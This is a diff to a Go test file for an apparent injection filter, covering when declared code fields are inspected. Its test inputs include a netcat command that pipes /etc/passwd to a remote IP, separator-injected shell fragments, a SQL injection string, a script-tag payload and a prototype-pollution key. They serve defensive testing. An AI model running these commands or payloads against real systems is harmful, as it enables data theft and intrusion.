@@ -10,7 +10,7 @@ import (
 // file name) is not inspected as live input while code_context is on; every other field is, the
 // declaration must name a real language, and custom rules still apply.
 func TestDeclaredCode(t *testing.T) {
-	const cmd = `; cat /etc/passwd`
+	const cmd = `cat /etc/passwd | nc 10.0.0.1 4444`
 	custom := `{"injection":{"custom_rules":[{"id":"no-passwd","locations":["body"],"literal":"/etc/passwd"}]}}`
 	for _, tc := range []struct {
 		config, body string
@@ -32,8 +32,19 @@ func TestDeclaredCode(t *testing.T) {
 		{`{}`, `{"language":"shell","meta":{"content":"` + cmd + `"}}`, 403},
 		// The key itself is still checked structurally.
 		{`{}`, `{"language":"js","content":"x","__proto__":{"admin":true}}`, 403},
+		// A value that starts with a separator is an injected fragment, declared or not.
+		{`{}`, `{"language":"shell","content":"; cat /etc/passwd"}`, 403},
+		{`{}`, `{"steps":[{"run":"| id"}]}`, 403},
+		// Command lists: command injection and traversal are not inspected, the rest is.
+		{`{}`, `{"steps":[{"name":"build","run":"npm run build && npm run lint"}]}`, 200},
+		{`{}`, `{"script":["go vet ./...","gofmt -l . | tee /dev/stderr"]}`, 200},
+		{`{}`, `{"scripts":{"clean":"rm -rf dist coverage"}}`, 200},
+		{`{}`, `{"scripts":{"x":"' OR 1=1 --"}}`, 403},
+		{`{}`, `{"run":"<script>alert(1)</script>"}`, 403},
+		{`{}`, `{"runs":"` + cmd + `"}`, 403},
 		// Switched off; custom rules apply.
 		{`{"injection":{"code_context":false}}`, `{"language":"shell","content":"` + cmd + `"}`, 403},
+		{`{"injection":{"code_context":false}}`, `{"scripts":{"clean":"rm -rf dist coverage"}}`, 403},
 		{custom, `{"language":"shell","content":"` + cmd + `"}`, 403},
 		// Multipart uploads: a script file is code, a PHP page is not.
 		{`{}`, "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"run.sh\"\r\n\r\n" + cmd + "\r\n--B--\r\n", 200},
